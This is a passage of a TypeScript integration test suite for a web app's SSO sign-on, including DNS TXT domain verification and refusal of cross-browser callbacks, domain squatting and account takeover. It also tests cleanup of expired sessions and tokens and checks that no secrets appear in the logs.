    const back = await b.request('GET', callback.slice(`${t.url}/api/v1`.length));
    return { status: back.status, location: back.headers.get('location'), headers: back.headers };
  }
  /** The reason a failed sign-on sends the sign-in page: in a cookie of the server's own, the address saying only that it failed. */
  const ssoError = ({ headers }: { headers: Headers }) => {
    expect(headers.get('location')).toBe('/sign-in?sso_error=1');
    const cookie = headers.getSetCookie().find((c) => c.startsWith('rtcscope_sso_error='));
    expect(cookie).toMatch(/; Path=\/sign-in(;|$)/);
    return cookie ? decodeURIComponent(/^rtcscope_sso_error=([^;]*)/.exec(cookie)![1]!) : null;
  };

  it('signs in a person who first arrives through it, with the default role, and the same account again after', async () => {
    await idp.start(`${t.url}/api/v1/auth/sso/callback`);
    const o = await owner('root@acme.test');
    const refused = await o.b.request('PUT', `/orgs/${o.orgId}/sso`, {
      issuer: 'http://127.0.0.1:9',
      clientId: 'x',
      clientSecret: 'y',
      emailDomain: 'acme.test',
      defaultRole: 'viewer',
    });
    expect(refused).toMatchObject({
      status: 400,
      body: { message: expect.stringMatching(/^could not read http:\/\/127.0.0.1:9's OpenID configuration/) },
    });
    expect((await o.b.request<SsoConnectionInfo>('GET', `/orgs/${o.orgId}/sso`)).body.connection).toBeNull();
    const connection = {
      issuer: idp.issuer,
      clientId: idp.clientId,
      clientSecret: idp.clientSecret,
      emailDomain: 'acme.test',
      defaultRole: 'viewer',
    };
    // Another organization claims the domain first: a claim not proved routes no one, and blocks no one.
    const squatter = await owner('root@other.test');
    expect((await squatter.b.request('PUT', `/orgs/${squatter.orgId}/sso`, connection)).status).toBe(200);
    expect((await new Browser(t.url).request('POST', '/auth/sso/start', { email: 'sam@acme.test' })).status).toBe(404);
    const saved = await o.b.request<SsoConnectionInfo>('PUT', `/orgs/${o.orgId}/sso`, connection);
    expect(saved.body).toEqual({
      connection: { issuer: idp.issuer, clientId: 'rtcscope', emailDomain: 'acme.test', defaultRole: 'viewer' },
      redirectUri: `${t.url}/api/v1/auth/sso/callback`,
      domainProof: {
        record: '_rtcscope-challenge.acme.test',
        value: expect.stringMatching(/^rtcscope-domain-verification=[0-9a-f]{32}$/),
        verifiedAt: null,
      },
    });
    secrets.add(idp.clientSecret);
    const unproved = await o.b.request<{ message: string }>('POST', `/orgs/${o.orgId}/sso/verify`);
    expect(unproved.status).toBe(400);
    expect(unproved.body.message).toBe(
      `no TXT record "${saved.body.domainProof!.value}" at _rtcscope-challenge.acme.test yet: publish it at your DNS provider, then check again (new records can take some minutes to be seen)`,
    );
    // The domain's owner publishes its proof, beside another record (DNS splits long text into pieces).
    const proof = saved.body.domainProof!.value;
    dns.txt.set('_rtcscope-challenge.acme.test', ['v=spf1 -all', proof]);
    const proved = await o.b.request<SsoConnectionInfo>('POST', `/orgs/${o.orgId}/sso/verify`);
    expect(proved.status).toBe(200);
    expect(proved.body.domainProof!.verifiedAt).toEqual(expect.any(Number));
    expect((await squatter.b.request('POST', `/orgs/${squatter.orgId}/sso/verify`)).status).toBe(400);
    expect((await squatter.b.request('PUT', `/orgs/${squatter.orgId}/sso`, connection)).status).toBe(409);
    expect((await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?action=sso`)).body.events.map((e) => e.action)).toEqual([
      'sso.domain-verified',
      'sso.configured',
    ]);

    idp.as({ sub: 'sam-1', email: 'Sam@acme.test', name: 'Sam' });
    const b = new Browser(t.url);
    expect(await signOn(b, 'sam@acme.test')).toMatchObject({ status: 302, location: '/' });
    const me = await b.me();
    expect(me.user).toMatchObject({ email: 'Sam@acme.test', name: 'Sam', hasPassword: false });
    expect(me.organizations.map((org) => [org.id, org.role])).toEqual([[o.orgId, 'viewer']]);
    b.project = o.projectId;
    expect((await b.request('GET', '/calls')).status).toBe(200);
    expect((await b.request<SessionList>('GET', '/account/sessions')).body.sessions[0]).toMatchObject({ method: 'sso', current: true });
    remember(b);

    const again = new Browser(t.url);
    expect(await signOn(again, 'sam@acme.test')).toMatchObject({ status: 302, location: '/' });
    expect((await again.me()).user.id).toBe(me.user.id);
    const audit = await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?actor=Sam@acme.test`);
    expect(audit.body.events.map((e) => [e.action, e.detail])).toEqual([
      ['session.signed-in', { method: 'sso' }],
      ['session.signed-in', { method: 'sso' }],
      ['member.joined', { role: 'viewer', through: 'sso' }],
    ]);
    remember(again);
  });

  it('refuses a callback in another browser, an address outside the domain or unverified, an account of someone else, and a removed member', async () => {
    const attacker = new Browser(t.url);
    idp.as({ sub: 'mal-1', email: 'mal@acme.test', name: 'Mal' });
    const started = await attacker.request<{ url: string }>('POST', '/auth/sso/start', { email: 'mal@acme.test' });
    const callback = await idp.signOn(started.body.url);
    // The attacker's finished sign-on, opened in a victim's browser (which never started it), signs nobody in.
    const victim = new Browser(t.url);
    const planted = await victim.request('GET', callback.slice(`${t.url}/api/v1`.length));
    expect(ssoError(planted)).toMatch(/started in another browser/);
    expect(victim.cookies.has('rtcscope_session')).toBe(false);

    idp.as({ sub: 'out-1', email: 'someone@elsewhere.test', name: 'Out' });
    expect(ssoError(await signOn(new Browser(t.url), 'x@acme.test'))).toBe(
      'someone@elsewhere.test is not in acme.test, the domain this organization signs on',
    );
    idp.as({ sub: 'unv-1', email: 'unverified@acme.test', name: 'U', emailVerified: false });
    expect(ssoError(await signOn(new Browser(t.url), 'unverified@acme.test'))).toBe('the identity provider gave no verified email address');

    // An account that signed up by itself is not taken over by a provider that claims its domain.
    const own = new Browser(t.url);
    await own.signUp('eve@acme.test', PASSWORD);
    idp.as({ sub: 'eve-1', email: 'eve@acme.test', name: 'Eve' });
    expect(ssoError(await signOn(new Browser(t.url), 'eve@acme.test'))).toMatch(
      /an account for eve@acme.test exists and is not a member of this organization/,
    );

    // Removed, a member is not let back in by the provider.
    idp.as({ sub: 'rex-1', email: 'rex@acme.test', name: 'Rex' });
    const rex = new Browser(t.url);
    expect((await signOn(rex, 'rex@acme.test')).location).toBe('/');
    const rexId = (await rex.me()).user.id;
    const { rows } = await t.db.pool.query<{ organization_id: string }>(
      'SELECT organization_id FROM sso_connection WHERE domain_verified_at IS NOT NULL',
    );
    const admin = new Browser(t.url);
    expect(await admin.signIn('root@acme.test', PASSWORD)).toBe(204);
    expect((await admin.request('DELETE', `/orgs/${rows[0]!.organization_id}/members/${rexId}`)).status).toBe(204);
    expect(ssoError(await signOn(new Browser(t.url), 'rex@acme.test'))).toMatch(/no longer a member/);
    expect((await new Browser(t.url).request('POST', '/auth/sso/start', { email: 'a@nowhere.test' })).status).toBe(404);
    remember(rex);
    remember(admin);
  });
});

describe('upkeep', () => {
  it('removes sessions, links and invitations a week after they stopped opening anything, and keeps the rest', async () => {
    const o = await owner('pru@example.com');
    const { rows } = await t.db.pool.query<{ id: string }>('SELECT id FROM app_user WHERE email = $1', ['pru@example.com']);
    const userId = rows[0]!.id;
    const old = "now() - interval '8 days'";
    await t.db.pool.query(
      `INSERT INTO user_session (token_hash, user_id, expires_at, method, csrf_secret) VALUES ('old-1', $1, ${old}, 'password', 's'), ('recent-1', $1, now() - interval '1 day', 'password', 's')`,
      [userId],
    );
    await t.db.pool.query(
      `INSERT INTO user_token (kind, token_hash, user_id, expires_at) VALUES ('reset', 'old-2', $1, ${old}), ('reset', 'live-2', $1, now() + interval '1 hour')`,
      [userId],
    );
    await t.db.pool.query(
      `INSERT INTO invitation (organization_id, email, role, token_hash, expires_at) VALUES ($1, 'a@x.test', 'viewer', 'old-3', ${old}), ($1, 'b@x.test', 'viewer', 'live-3', now() + interval '1 day')`,
      [o.orgId],
    );
    expect(await pruneAccounts(t.db.prisma)).toBeGreaterThanOrEqual(3);
    const left = await t.db.pool.query(
      "SELECT token_hash FROM user_session WHERE token_hash IN ('old-1', 'recent-1') UNION ALL SELECT token_hash FROM user_token WHERE token_hash IN ('old-2', 'live-2') UNION ALL SELECT token_hash FROM invitation WHERE token_hash IN ('old-3', 'live-3') ORDER BY 1",
    );
    expect(left.rows.map((r: { token_hash: string }) => r.token_hash)).toEqual(['live-2', 'live-3', 'recent-1']);
    expect((await o.b.request('GET', '/auth/me')).status).toBe(200);
  });
});

describe('logs', () => {
  it('hold no password, session, CSRF token, link or key the tests used', () => {
    expect(logs.length).toBeGreaterThan(100);
    const text = logs.join('\n');
    expect(secrets.size).toBeGreaterThan(10);
    for (const secret of secrets) expect(text.includes(secret), `a log line holds ${secret.slice(0, 6)}…`).toBe(false);
  });
});
